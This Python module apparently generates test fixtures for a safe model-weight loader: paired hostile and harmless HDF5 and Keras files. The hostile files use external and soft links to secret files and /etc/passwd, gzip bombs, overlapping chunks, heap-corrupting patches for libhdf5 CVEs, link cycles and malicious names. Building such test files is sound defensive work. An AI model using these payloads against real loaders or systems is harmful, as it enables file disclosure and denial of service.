"""Builds checkpoints that attack whoever opens them, each beside a sibling that is harmless but for the one fault.

HDF5 files, Keras archives and PyTorch checkpoints, written with h5py, zipfile and patched bytes; nothing of the package
is used. ``CASES`` has them all: ``case.write(path, True)`` writes the hostile file, ``False`` its sibling. Whatever
must not be read or run lies beside it: ``secret`` (a folder), ``ran`` (a folder that only running code makes).
"""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import os
import pickle
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from h5py import h5d, h5p, h5s, h5t, h5z

GOOD = np.arange(12, dtype="<f4").reshape(3, 4)  # beside the fault, in every file
VICTIM = np.arange(100, 112, dtype="<f4")  # where the fault is, in the sibling
SECRET = np.full(12, 666, dtype="<f4")  # in a file that nothing may read
OTHER = np.zeros(5, dtype="<f4")  # what may be read or not
MIB = 1 << 20

REFUSED = "refused"
EITHER = "either"  # refused, or opened without the object: GOOD is there, SECRET is not
HARMLESS = "harmless"  # GOOD and VICTIM are there, in the sibling too

Patch = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Place:
    """Where an HDF5 file gets its fault."""

    group: h5py.Group
    name: str
    folder: Path

    def put(self, **options: Any) -> h5py.Dataset:
        """What the sibling has: a dataset of VICTIM."""
        return self.group.create_dataset(self.name, data=VICTIM, **options)

    def create(self, properties: h5p.PropDCID, shape: tuple[int, ...], dtype: Any = "<f4",
               maximum: tuple[int, ...] | None = None) -> h5d.DatasetID:  # fmt: skip
        """A dataset by the low-level API, nothing written."""
        space = h5s.create_simple(shape, maximum)
        return h5d.create(self.group.id, self.name.encode(), h5t.py_create(np.dtype(dtype)), space, properties)

    def secret(self) -> str:
        """The path of an HDF5 file with SECRET in it."""
        path = secret_folder(self.folder) / "secret.h5"
        with h5py.File(path, "w") as file:
            file["w"] = SECRET
            file["group/w"] = SECRET
        return str(path)


@dataclass(frozen=True)
class Case:
    """A hostile file and its sibling.

    Attributes:
        outcome: REFUSED, EITHER or HARMLESS: what becomes of the hostile one.
        text: Pattern that the error's text matches beside the file's name: the object and what was found.
        has_victim: Whether the sibling has VICTIM.
    """

    name: str
    suffix: str
    write: Callable[[Path, bool], None]
    outcome: str
    text: str
    has_victim: bool = True
    package: str = "h5py"


CASES: list[Case] = []


def secret_folder(folder: Path) -> Path:
    (folder / "secret").mkdir(exist_ok=True)
    return folder / "secret"


def chunked(sizes: tuple[int, ...], n_gzip: int = 1) -> h5p.PropDCID:
    properties = h5p.create(h5p.DATASET_CREATE)
    properties.set_chunk(sizes)
    for _ in range(n_gzip):
        properties.set_deflate(9)
    return properties


@functools.cache
def zeros_deflated(nbytes: int, times: int = 1) -> bytes:
    """Zeros as a zlib stream, of a zlib stream, …"""
    data = zlib.compress(bytes(nbytes), 9)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


# Three layouts for every fault in an HDF5 file


Fault = Callable[[Place, bool], "Patch | None"]


def _finish(path: Path, stream: io.BytesIO, patch: Patch | None) -> bytes:
    return stream.getvalue() if patch is None else patch(stream.getvalue())


def write_tree(path: Path, fault: Fault, is_hostile: bool) -> None:
    """A plain HDF5 file: ``dense/kernel`` and ``dense/bias``."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["dense/kernel"] = GOOD
        patch = fault(Place(file["dense"], "bias", path.parent), is_hostile)
    path.write_bytes(_finish(path, stream, patch))


def write_legacy(path: Path, fault: Fault, is_hostile: bool) -> None:
    """The weights of Keras 2: ``layer_names`` at the root, ``weight_names`` at each layer."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        legacy_root(file)
        file["dense/dense/kernel:0"] = GOOD
        file["dense"].attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        patch = fault(Place(file["dense/dense"], "bias:0", path.parent), is_hostile)
    path.write_bytes(_finish(path, stream, patch))


def write_keras(path: Path, fault: Fault, is_hostile: bool) -> None:
    """A ``.keras`` archive of Keras 3, whose ``model.weights.h5`` has the fault."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers/dense/vars/0"] = GOOD
        patch = fault(Place(file["layers/dense/vars"], "1", path.parent), is_hostile)
    write_archive(path, {"model.weights.h5": _finish(path, stream, patch)})


LAYOUTS = {"tree": (write_tree, ".h5"), "legacy": (write_legacy, ".h5"), "keras": (write_keras, ".keras")}
EVERYWHERE = tuple(LAYOUTS)


def legacy_root(file: h5py.File, layers: list[bytes] | None = None) -> None:
    file.attrs["layer_names"] = layers if layers is not None else [b"dense"]
    file.attrs["backend"] = "tensorflow"
    file.attrs["keras_version"] = "2.15.0"


def hdf5(text: str = "", outcome: str = REFUSED, layouts: tuple[str, ...] = EVERYWHERE, has_victim: bool = True) -> Any:
    """Register a fault in each of the layouts."""

    def register(fault: Fault) -> Fault:
        for layout in layouts:
            writer, suffix = LAYOUTS[layout]
            write = functools.partial(_write, writer, fault)
            CASES.append(Case(f"{fault.__name__}-{layout}", suffix, write, outcome, text, has_victim))
        return fault

    return register


def _write(writer: Any, fault: Fault, path: Path, is_hostile: bool) -> None:
    writer(path, fault, is_hostile)


def whole(suffix: str, text: str = "", outcome: str = REFUSED, has_victim: bool = True, package: str = "h5py") -> Any:
    """Register a function that writes a whole file."""

    def register(write: Callable[[Path, bool], None]) -> Any:
        CASES.append(Case(write.__name__, suffix, write, outcome, text, has_victim, package))
        return write

    return register


# Links


@hdf5("external|link")
def external_link(place: Place, is_hostile: bool) -> None:
    """CVE-2026-1669, keras #22899: a link into another file, whose values would be given away."""
    if is_hostile:
        place.group[place.name] = h5py.ExternalLink(place.secret(), "/w")
    else:
        place.put()


@hdf5("external|link")
def external_link_to_nothing(place: Place, is_hostile: bool) -> None:
    """The same with a file that does not exist: an error about it would tell which files do."""
    if is_hostile:
        place.group[place.name] = h5py.ExternalLink("/nonexistent/secret.h5", "/w")
    else:
        place.put()


@hdf5("soft|link")
def soft_link_inside(place: Place, is_hostile: bool) -> None:
    """keras #22900: soft links are followed on paths that were checked without them; hard links only."""
    place.group.file["elsewhere"] = VICTIM
    if is_hostile:
        place.group[place.name] = h5py.SoftLink("/elsewhere")
    else:
        place.put()


@hdf5("soft|link")
def soft_link_dangling(place: Place, is_hostile: bool) -> None:
    """A soft link out of the tree."""
    if is_hostile:
        place.group[place.name] = h5py.SoftLink("../../../../etc/passwd")
    else:
        place.put()


@hdf5("soft|link")
def soft_link_to_itself(place: Place, is_hostile: bool) -> None:
    """A soft link whose target is itself: whoever follows it goes in a circle."""
    if is_hostile:
        place.group[place.name] = h5py.SoftLink(f"{place.group.name}/{place.name}")
    else:
        place.put()


@hdf5("soft|link")
def soft_link_to_external_link(place: Place, is_hostile: bool) -> None:
    """keras #23161: one link after the other, the second of them external."""
    if is_hostile:
        place.group.file["elsewhere"] = h5py.ExternalLink(place.secret(), "/group")
        place.group[place.name] = h5py.SoftLink("/elsewhere/w")
    else:
        place.put()


@hdf5("cycle|circle|twice|hard link|within itself|inside itself|contains", EITHER, ("tree", "keras"))
def hard_link_cycle(place: Place, is_hostile: bool) -> None:
    """A group that has its own parent in it: a walk without memory never ends."""
    place.put()
    other = place.group.create_group("self" if is_hostile else "other")
    if is_hostile:
        place.group["cycle"] = place.group.parent
        other["cycle"] = place.group


@hdf5("more than|paths|twice|hard link|deep|group|again", EITHER, ("tree",))
def hard_links_of_2_40_paths(place: Place, is_hostile: bool) -> None:
    """40 groups, each twice in the one above: no cycle, but 2**40 paths to walk."""
    place.put()
    group = place.group.create_group("many")
    for _ in range(40):
        inner = group.create_group("a")
        if is_hostile:
            group["b"] = inner
        group = inner
    group["w"] = VICTIM


@hdf5(outcome=HARMLESS)
def hard_link_twice(place: Place, is_hostile: bool) -> None:
    """Two names of one dataset: tied weights, which are allowed."""
    place.put()
    if is_hostile:
        place.group[place.name + "_tied"] = place.group[place.name]


# Storage outside of the file


@hdf5("external|storage|outside|another file|other file")
def external_storage(place: Place, is_hostile: bool) -> None:
    """CVE-2026-1669: a dataset whose bytes lie in another file of the reader's machine."""
    if is_hostile:
        path = secret_folder(place.folder) / "secret.bin"
        path.write_bytes(SECRET.tobytes())
        place.group.create_dataset(place.name, (12,), "<f4", external=[(str(path), 0, SECRET.nbytes)])
    else:
        place.put()


@hdf5("virtual|outside|another file|other file")
def virtual_dataset(place: Place, is_hostile: bool) -> None:
    """CVE-2026-1669: a virtual dataset maps another file."""
    if is_hostile:
        layout = h5py.VirtualLayout((12,), "<f4")
        layout[:] = h5py.VirtualSource(place.secret(), "w", (12,), "<f4")
        place.group.create_virtual_dataset(place.name, layout)
    else:
        place.put()


@hdf5("virtual|outside|another file|other file", layouts=("tree", "keras"))
def virtual_dataset_of_itself(place: Place, is_hostile: bool) -> None:
    """A virtual dataset that maps its own file, and itself."""
    if is_hostile:
        layout = h5py.VirtualLayout((12,), "<f4")
        layout[:] = h5py.VirtualSource(".", f"{place.group.name}/{place.name}", (12,), "<f4")
        place.group.create_virtual_dataset(place.name, layout)
    else:
        place.put()


# Filters


@hdf5("lzf|32000|filter|compress")
def filter_lzf(place: Place, is_hostile: bool) -> None:
    """Only gzip, shuffle and Fletcher-32 are read: other decoders are more code to attack."""
    place.put(chunks=(12,), compression="lzf" if is_hostile else "gzip")


if h5z.filter_avail(h5z.FILTER_SZIP) and h5z.get_filter_info(h5z.FILTER_SZIP) & h5z.FILTER_CONFIG_ENCODE_ENABLED:

    @hdf5("szip|filter|compress", layouts=("tree",))
    def filter_szip(place: Place, is_hostile: bool) -> None:
        """The szip decoder of libhdf5 had heap overflows."""
        place.put(chunks=(12,), compression="szip" if is_hostile else "gzip")


@hdf5("scale-?offset|filter", layouts=("tree",))
def filter_scale_offset(place: Place, is_hostile: bool) -> None:
    """libhdf5's scale-offset decoder had heap overflows (CVE-2018-11205 and others)."""
    place.put(chunks=(12,), **({"scaleoffset": 2} if is_hostile else {"compression": "gzip"}))


@hdf5("n-?bit|filter", layouts=("tree",))
def filter_n_bit(place: Place, is_hostile: bool) -> None:
    """libhdf5's n-bit decoder had heap overflows (CVE-2024-32610 and others)."""
    if not is_hostile:
        place.put(chunks=(12,))
        return
    properties = chunked((12,), n_gzip=0)
    properties.set_filter(h5z.FILTER_NBIT, h5z.FLAG_MANDATORY)
    place.create(properties, (12,)).write_direct_chunk((0,), VICTIM.tobytes(), 1)


@hdf5("32001|filter|compress")
def filter_unknown(place: Place, is_hostile: bool) -> None:
    """A filter that only a plug-in has: HDF5 looks for libraries to load in a folder of HDF5_PLUGIN_PATH."""
    properties = chunked((12,), n_gzip=0)
    if is_hostile:
        properties.set_filter(32001, h5z.FLAG_OPTIONAL, (1, 2, 3))
    place.create(properties, (12,)).write_direct_chunk((0,), VICTIM.tobytes(), 0)


@hdf5("gzip|deflate|twice|filter|refused|expand|times", EITHER, ("tree",))
def filter_gzip_twice(place: Place, is_hostile: bool) -> None:
    """gzip of gzip expands a million times; no writer does it."""
    data = zlib.compress(VICTIM.tobytes())
    dataset = place.create(chunked((12,), 1 + is_hostile), (12,))
    dataset.write_direct_chunk((0,), zlib.compress(data) if is_hostile else data)


@hdf5(outcome=HARMLESS)
def filter_gzip_and_shuffle(place: Place, is_hostile: bool) -> None:
    """What Keras' users compress with."""
    place.put(chunks=(5,), **({"compression": "gzip", "shuffle": True} if is_hostile else {}))


@hdf5(outcome=HARMLESS)
def filter_fletcher32(place: Place, is_hostile: bool) -> None:
    """A checksum, of 4 bytes a chunk."""
    place.put(chunks=(5,), fletcher32=is_hostile)


@hdf5("gzip|shuffle|filter|chunk", EITHER, ("tree", "keras"))
def filter_left_out_of_a_chunk(place: Place, is_hostile: bool) -> None:
    """A chunk's filter mask says that gzip was not applied to it."""
    data = VICTIM.tobytes() if is_hostile else zlib.compress(VICTIM.tobytes())
    place.create(chunked((12,)), (12,)).write_direct_chunk((0,), data, int(is_hostile))


@hdf5("fletcher|checksum|damaged|cannot be read|read", layouts=("tree", "keras"))
def fletcher32_wrong(place: Place, is_hostile: bool) -> None:
    """A chunk that its checksum does not match."""
    properties = chunked((12,), n_gzip=0)
    properties.set_fletcher32()
    dataset = place.create(properties, (12,))
    dataset.write(h5s.ALL, h5s.ALL, VICTIM)
    mask, chunk = dataset.read_direct_chunk((0,))
    dataset.write_direct_chunk((0,), chunk[:-1] + bytes([chunk[-1] ^ is_hostile]), mask)


@hdf5("damaged|inflate|deflate|gzip|chunk|read", layouts=("tree", "keras"))
def gzip_damaged(place: Place, is_hostile: bool) -> None:
    """A chunk whose zlib stream ends early."""
    data = zlib.compress(VICTIM.tobytes())
    place.create(chunked((12,)), (12,)).write_direct_chunk((0,), data[:-12] if is_hostile else data)


# Sizes


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|never written|not written|stor(age|ed)")
def never_written_chunks(place: Place, is_hostile: bool) -> None:
    """CVE-2026-0897: 1 TB declared, not one chunk written."""
    if is_hostile:
        place.group.create_dataset(place.name, (1 << 38,), "<f4", chunks=(1 << 18,), compression="gzip")
    else:
        place.put(chunks=(12,), compression="gzip")


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|never written|not written|stor(age|ed)")
def never_written_contiguous(place: Place, is_hostile: bool) -> None:
    """CVE-2026-0897: 1 TB declared, storage never allocated."""
    if is_hostile:
        place.create(h5p.create(h5p.DATASET_CREATE), (1 << 38,))
    else:
        place.put()


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|never written|not written|stor(age|ed)|shape")
def shape_of_2_80_elements(place: Place, is_hostile: bool) -> None:
    """A shape whose product does not fit 64 bits: checked in Python integers, it does not wrap to 0."""
    if is_hostile:
        place.group.create_dataset(place.name, (1 << 40, 1 << 40), "<f4", chunks=(1, 1))
    else:
        place.put(chunks=(1,))


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|never written|not written|stor(age|ed)|shape|elements")
def zero_hides_a_huge_side(place: Place, is_hostile: bool) -> None:
    """A tensor of no elements whose other sides overflow; the product of those that are not 0 is limited."""
    place.put()
    sides = (0, 1 << 40, 1 << 40) if is_hostile else (0, 5)
    place.group.create_dataset("empty", sides, "<f4")


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|never written|not written|stor(age|ed)")
def many_never_written(place: Place, is_hostile: bool) -> None:
    """keras #23100: every dataset below any floor for one, 128 GB together. The budget is cumulative."""
    place.put()
    if is_hostile:
        for i in range(2000):
            space = h5s.create_simple((1 << 24,))
            h5d.create(place.group.id, b"n%d" % i, h5t.IEEE_F32LE, space, chunked((1 << 16,)))


@hdf5("written|chunk|bytes", EITHER)
def partly_written(place: Place, is_hostile: bool) -> None:
    """Chunks that were never written read as zeros."""
    if is_hostile:
        dataset = place.group.create_dataset(place.name, (12,), "<f4", chunks=(4,))
        dataset[:4] = VICTIM[:4]
    else:
        place.put(chunks=(4,))


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|chunk|gzip|filter|twice")
def gzip_bomb(place: Place, is_hostile: bool) -> None:
    """keras #23010: 64 chunks of 32 MiB of zeros each, from 200 bytes each by gzip of gzip."""
    if not is_hostile:
        place.put(chunks=(12,), compression="gzip")
        return
    n = 8 * MIB
    dataset = place.create(chunked((n,), 2), (64 * n,))
    for i in range(64):
        dataset.write_direct_chunk((i * n,), zeros_deflated(4 * n, 2))


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|chunk|gzip|filter|twice", layouts=("tree", "keras"))
def many_gzip_bombs(place: Place, is_hostile: bool) -> None:
    """keras #23100: 300 datasets of one such chunk each."""
    place.put()
    n = 8 * MIB
    for i in range(300 if is_hostile else 0):
        space = h5s.create_simple((n,))
        dataset = h5d.create(place.group.id, b"b%d" % i, h5t.IEEE_F32LE, space, chunked((n,), 2))
        dataset.write_direct_chunk((0,), zeros_deflated(4 * n, 2))


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|chunk|overlap|same", layouts=("tree", "keras"))
def overlapping_chunks(place: Place, is_hostile: bool) -> Patch | None:
    """4,000 entries of the chunk index that all point at one chunk: 4 GB from a few hundred kB."""
    if not is_hostile:
        place.put(chunks=(12,), compression="gzip")
        return None
    n, count = MIB // 4, 4000
    dataset = place.create(chunked((n,)), (count * n,))
    payload = zeros_deflated(4 * n)
    dataset.write_direct_chunk((0,), payload)
    for i in range(1, count):
        dataset.write_direct_chunk((i * n,), b"\0")
    addresses: dict[int, int] = {}
    dataset.chunk_iter(lambda chunk: addresses.update({chunk.chunk_offset[0]: chunk.byte_offset}))

    def patch(data: bytes) -> bytes:
        found = bytearray(data)
        for i in range(1, count):  # version 1 B-tree: key (nbytes, mask, offset, 0), then the address
            at = data.find(struct.pack("<IIQQQ", 1, 0, i * n, 0, addresses[i * n]))
            assert at > 0
            found[at : at + 4] = struct.pack("<I", len(payload))
            found[at + 24 : at + 32] = struct.pack("<Q", addresses[0])
        return bytes(found)

    return patch


@hdf5("declare|bytes|expand|large|more than|times|budget|limit|chunk")
def chunk_larger_than_its_dataset(place: Place, is_hostile: bool) -> None:
    """10 elements, in a chunk of 2 GiB that has to be inflated to read them."""
    if not is_hostile:
        place.put(chunks=(12,), compression="gzip", maxshape=(None,))
        return
    dataset = place.create(chunked((1 << 29,), 2), (12,), maximum=(h5s.UNLIMITED,))
    dataset.write_direct_chunk((0,), zeros_deflated(1 << 29, 2))  # a quarter of it, for the time that 2 GiB take


@hdf5("chunk|bytes|damaged")
def chunk_shorter_than_declared(place: Place, is_hostile: bool) -> None:
    """A chunk that inflates to less than its shape needs: libhdf5 2.0 gives what lies behind it on the heap."""
    data = zlib.compress(VICTIM[:4].tobytes() if is_hostile else VICTIM.tobytes())
    place.create(chunked((12,)), (12,)).write_direct_chunk((0,), data)


@hdf5("chunk|bytes|damaged")
def large_chunk_shorter_than_declared(place: Place, is_hostile: bool) -> None:
    """The same with 400 kB of the heap."""
    place.put()
    values = np.random.default_rng(0).random(500 if is_hostile else 100_000, "<f4")  # 500 could be 100,000 by deflate
    dataset = h5d.create(place.group.id, b"large", h5t.IEEE_F32LE, h5s.create_simple((100_000,)), chunked((100_000,)))
    dataset.write_direct_chunk((0,), zlib.compress(values.tobytes()))


@hdf5("chunk|bytes|damaged", EITHER, ("tree", "keras"))
def chunk_longer_than_declared(place: Place, is_hostile: bool) -> None:
    """A chunk that inflates to 32 MiB where 48 bytes are declared."""
    data = zeros_deflated(32 * MIB) if is_hostile else zlib.compress(VICTIM.tobytes())
    place.create(chunked((12,)), (12,)).write_direct_chunk((0,), data)


@hdf5(outcome=HARMLESS)
def zeros_that_compress_well(place: Place, is_hostile: bool) -> None:
    """1,000 : 1 is what gzip makes of zeros: a new embedding, say. It is allowed."""
    place.put()
    compression = "gzip" if is_hostile else None
    place.group.create_dataset("zeros", data=np.zeros(MIB, "<f4"), chunks=(MIB,), compression=compression)


@hdf5(outcome=HARMLESS, layouts=("tree",))
def compact_storage(place: Place, is_hostile: bool) -> None:
    """A dataset that lies in its object header."""
    properties = h5p.create(h5p.DATASET_CREATE)
    if is_hostile:
        properties.set_layout(h5d.COMPACT)
    place.create(properties, (12,)).write(h5s.ALL, h5s.ALL, VICTIM)


@hdf5(outcome=HARMLESS)
def zero_size(place: Place, is_hostile: bool) -> None:
    """A tensor of no elements, which a .vqm can hold."""
    place.put()
    if is_hostile:
        place.group.create_dataset("empty", (0, 5), "<f4")
        place.group.create_dataset("empty_chunks", (0, 5), "<f4", maxshape=(None, 5), compression="gzip")


@hdf5(outcome=HARMLESS)
def rank_32(place: Place, is_hostile: bool) -> None:
    """The highest rank of HDF5, NumPy before 2 and .vqm."""
    place.group[place.name] = VICTIM.reshape((1,) * 30 + (3, 4) if is_hostile else (12,))


@hdf5(outcome=HARMLESS)
def no_maximal_shape(place: Place, is_hostile: bool) -> None:
    """A dataset that can grow."""
    place.put(maxshape=(None,) if is_hostile else None)


@hdf5(outcome=HARMLESS, layouts=("tree", "legacy"))
def scalar(place: Place, is_hostile: bool) -> None:
    """A dataset of rank 0."""
    place.put()
    if is_hostile:
        place.group["iterations"] = np.float32(3)


# Types


def types(place: Place, is_hostile: bool, **dataset: Any) -> None:
    """A dataset of another type beside VICTIM's, or in its place where its name must be there."""
    place.put()
    if is_hostile:
        place.group.create_dataset("odd", **dataset)


@hdf5("compound|type|dtype|records|fields", EITHER, ("tree", "keras"))
def type_compound(place: Place, is_hostile: bool) -> None:
    """Records are no tensor."""
    types(place, is_hostile, data=np.zeros(3, [("a", "<f4"), ("b", "<i8")]))


@hdf5("string|text|type", EITHER, ("tree", "keras"))
def type_string_of_any_length(place: Place, is_hostile: bool) -> None:
    """Text is no tensor."""
    types(place, is_hostile, data=["a", "b"], dtype=h5py.string_dtype())


@hdf5("string|text|bytes|type", EITHER, ("tree", "keras"))
def type_string(place: Place, is_hostile: bool) -> None:
    """Text of fixed length is no tensor either."""
    types(place, is_hostile, data=np.array([b"abc"]))


@hdf5("vlen|length|type|object", EITHER, ("tree", "keras"))
def type_array_of_any_length(place: Place, is_hostile: bool) -> None:
    """Each element has its own length, on the heap."""
    place.put()
    if is_hostile:
        dataset = place.group.create_dataset("odd", (2,), h5py.vlen_dtype(np.dtype("<f4")))
        dataset[0] = GOOD.ravel()


@hdf5("string|text|length|type|object", EITHER, ("tree", "keras"))
def heap_object_shared_by_many_elements(place: Place, is_hostile: bool) -> Patch | None:
    """100,000 elements of any length that all point at one object of 1 MB: 100 GB when they are read."""
    place.put()
    if not is_hostile:
        return None
    dataset = place.group.create_dataset("odd", (100_000,), h5py.string_dtype(), chunks=None)
    dataset[0] = "x" * MIB
    return functools.partial(repeat_heap_object, nbytes=MIB, count=100_000)


def heap_fault(name: str, form: str, value: int) -> None:
    """Register a number in what a string attribute leads to: its name's last word says which."""

    def fault(place: Place, is_hostile: bool) -> Patch | None:
        place.put()
        place.group.file.attrs["note"] = "a string of varying length, for its very own heap"
        return patch if is_hostile else None

    def patch(data: bytes) -> bytes:
        heap = next(m.start() for m in re.finditer(b"GCOL", data) if b"very own heap" in data[m.start() :][:4096])
        text = data.index(b"a string of varying", heap)
        number = int.from_bytes(data[text - 16 : text - 14], "little")
        reference = data.index(struct.pack("<QI", heap, number)) - 4
        free = data.index(bytes(8) + struct.pack("<Q", 4096 - (text + 56 - heap)), text)  # object 0: what is left
        places = {"reference": reference, "object": text - 8, "free": free + 8}
        found = bytearray(data)
        struct.pack_into(form, found, places[name.rpartition("_")[2]], value)
        return bytes(found)

    fault.__name__ = name
    fault.__doc__ = "libhdf5 2.0 runs for ever, or allocates what a reference says before it looks at the heap."
    hdf5("string|heap|attribute|damaged", layouts=("tree", "legacy", "keras"))(fault)


heap_fault("heap_size_0_of_object", "<Q", 0)
heap_fault("heap_size_0_of_free", "<Q", 0)
heap_fault("heap_size_that_wraps_of_free", "<Q", 0xFFFFFFFFFFFFFFF0)
heap_fault("string_of_4_GB_by_its_reference", "<I", 0xFFFFFFF0)


def repeat_heap_object(data: bytes, nbytes: int, count: int) -> bytes:
    """Let the elements behind the first one that has so many bytes point at the same object of the global heap."""
    found = re.finditer(re.escape(struct.pack("<I", nbytes)), data)
    at = next(m.start() for m in found if data[struct.unpack_from("<Q", data, m.end())[0] :][:4] == b"GCOL")
    return data[:at] + data[at : at + 16] * count + data[at + 16 * count :]


@hdf5("reference|type|object", EITHER, ("tree", "keras"))
def type_reference(place: Place, is_hostile: bool) -> None:
    """References to objects and to regions of datasets."""
    dataset = place.put()
    if is_hostile:
        place.group.create_dataset("odd", data=[place.group.ref], dtype=h5py.ref_dtype)
        place.group.create_dataset("odd_region", data=[dataset.regionref[:3]], dtype=h5py.regionref_dtype)


@hdf5("opaque|void|type|bytes", EITHER, ("tree", "keras"))
def type_opaque(place: Place, is_hostile: bool) -> None:
    """Bytes without a meaning."""
    types(place, is_hostile, data=np.array([b"abcdefgh"], "V8"))


@hdf5("enum|type|integer", EITHER, ("tree", "keras"))
def type_enum(place: Place, is_hostile: bool) -> None:
    """Named integers."""
    types(place, is_hostile, data=[0, 1], dtype=h5py.enum_dtype({"A": 0, "B": 1}, "i"))


@hdf5("array|type", EITHER, ("tree", "keras"))
def type_array(place: Place, is_hostile: bool) -> None:
    """Elements that are arrays."""
    types(place, is_hostile, shape=(3,), dtype=np.dtype(("<f4", (2, 2))))


@hdf5("array|type|bytes|large", EITHER, ("tree", "keras"))
def type_array_that_is_huge(place: Place, is_hostile: bool) -> None:
    """One element of 2 GiB, never written."""
    place.put()
    if is_hostile:
        kind = h5t.array_create(h5t.IEEE_F32LE, (1 << 14, 1 << 15))
        h5d.create(place.group.id, b"odd", kind, h5s.create_simple((1,)))


@hdf5("type|float128|longdouble|bits|dtype", EITHER, ("tree", "keras"))
def type_long_double(place: Place, is_hostile: bool) -> None:
    """A float that a .vqm does not have."""
    types(place, is_hostile, data=np.ones(3, np.longdouble))


def odd(place: Place, kind: h5t.TypeID) -> None:
    """A dataset of such a type, its values written."""
    properties = h5p.create(h5p.DATASET_CREATE)
    properties.set_chunk((3,))
    dataset = h5d.create(place.group.id, b"odd", kind, h5s.create_simple((3,)), properties)
    dataset.write_direct_chunk((0,), bytes(3 * kind.get_size()))


@hdf5("type|precision|bits|dtype", EITHER, ("tree", "keras"))
def type_of_odd_precision(place: Place, is_hostile: bool) -> None:
    """Integers of 20 bits in 32."""
    place.put()
    if is_hostile:
        kind = h5t.NATIVE_INT32.copy()
        kind.set_precision(20)
        odd(place, kind)


@hdf5("type|float|bits|dtype|bytes", EITHER, ("tree", "keras"))
def type_of_odd_float(place: Place, is_hostile: bool) -> None:
    """A float of 24 bits."""
    place.put()
    if is_hostile:
        kind = h5t.IEEE_F32LE.copy()
        kind.set_fields(23, 15, 8, 0, 15)
        kind.set_size(3)
        kind.set_ebias(127)
        kind.set_precision(24)
        odd(place, kind)


@hdf5("type|committed|named|object", EITHER, ("tree", "keras"))
def type_committed(place: Place, is_hostile: bool) -> None:
    """A type as an object of its own among the weights."""
    place.put()
    if is_hostile:
        place.group["odd"] = np.dtype("<f8")


@hdf5("null|empty|space|shape", EITHER, ("tree", "keras"))
def null_space(place: Place, is_hostile: bool) -> None:
    """A dataset without a shape."""
    types(place, is_hostile, data=h5py.Empty("f4"))


@hdf5(outcome=HARMLESS)
def type_bool(place: Place, is_hostile: bool) -> None:
    """h5py's bool is an enum."""
    types(place, is_hostile, data=np.array([True, False]))


@hdf5("enum|bool|type|value", EITHER, ("tree", "keras"))
def type_bool_other_than_0_and_1(place: Place, is_hostile: bool) -> Patch:
    """A bool of value 7: a .vqm must not hold it."""
    place.put()
    place.group.create_dataset("odd", data=np.array([True, False, True] * 30))
    values = bytes([1, 0, 1] * 30)
    return lambda data: data.replace(values, b"\7" + values[1:]) if is_hostile else data


@hdf5(outcome=HARMLESS)
def type_big_endian(place: Place, is_hostile: bool) -> None:
    """The other byte order."""
    place.group[place.name] = VICTIM.astype(">f4" if is_hostile else "<f4")


# Attributes


@hdf5(outcome=HARMLESS)
def attribute_nan(place: Place, is_hostile: bool) -> None:
    """Numbers that JSON lacks."""
    dataset = place.put()
    for owner in (dataset, place.group, place.group.file) if is_hostile else ():
        owner.attrs["loss"] = np.nan
        owner.attrs["losses"] = np.array([np.inf, np.nan])


@hdf5(outcome=HARMLESS)
def attributes_by_the_thousand(place: Place, is_hostile: bool) -> None:
    """3,000 attributes."""
    dataset = place.put()
    for i in range(3000 if is_hostile else 3):
        dataset.attrs[f"a{i}"] = i


@hdf5(outcome=HARMLESS)
def attribute_of_60_kB(place: Place, is_hostile: bool) -> None:
    """An object header of its largest size."""
    place.put()
    place.group.file.attrs["notes"] = np.zeros(60_000 if is_hostile else 3, "u1")


@hdf5("dtype|attribute|type", EITHER, ("tree", "keras"))
def attribute_dtype_that_lies(place: Place, is_hostile: bool) -> None:
    """Keras 3 stores bfloat16 as 16-bit data with an attribute "dtype"; here the data has 32 bits."""
    place.put().attrs["dtype"] = "bfloat16" if is_hostile else "float32"


@hdf5("dtype|attribute|type", EITHER, ("tree", "keras"))
def attribute_dtype_that_names_code(place: Place, is_hostile: bool) -> None:
    """ONNX CVE-2026-34445: no attribute name ever comes from the file."""
    place.put().attrs["dtype"] = "__import__" if is_hostile else "float32"


@hdf5("dtype|attribute|type", EITHER, ("tree", "keras"))
def attribute_dtype_that_is_an_array(place: Place, is_hostile: bool) -> None:
    """An attribute of a shape that nobody writes."""
    place.put().attrs["dtype"] = np.zeros((2, 3)) if is_hostile else "float32"


# Names


def name(value: str | bytes) -> Any:
    """A dataset with such a name beside VICTIM."""

    def fault(place: Place, is_hostile: bool) -> None:
        place.put()
        raw = value.encode() if isinstance(value, str) else value
        h5d.create(place.group.id, raw if is_hostile else b"odd", h5t.IEEE_F32LE, h5s.create_simple((0,)))

    return fault


for _label, _value in {
    "control": "a\n\x1b[31mb\r",
    "right_to_left": "\u202eabc",
    "dots": "..",
    "three_thousand_bytes": "é" * 1500,
    "latin_1": b"caf\xe9",
    "backslash": "..\\..\\x",
    "spaces": "  ",
    "dot_dot_in_front": "..\x01/../x".replace("/", "|"),
    "percent": "%s%n{0.__class__}",
}.items():
    _fault = name(_value)
    _fault.__name__ = f"name_{_label}"
    hdf5("name|odd|bytes|Unicode", EITHER, ("tree",))(_fault)


@hdf5("name|odd|bytes|damaged|read", EITHER, ("tree",))
def name_with_nul(place: Place, is_hostile: bool) -> Patch:
    """C ends the name at its NUL, Python does not."""
    place.put()
    place.group.create_dataset("odd_name", (0,), "<f4")
    return lambda data: data.replace(b"odd_name", b"odd\0name") if is_hostile else data


@hdf5("deep|nested|levels|long|name|more than", layouts=("tree", "keras"))
def groups_2000_deep(place: Place, is_hostile: bool) -> None:
    """huggingface.js #2028: recursion without a limit."""
    place.put()
    group = place.group
    for _ in range(2000 if is_hostile else 12):
        group = group.create_group("g")
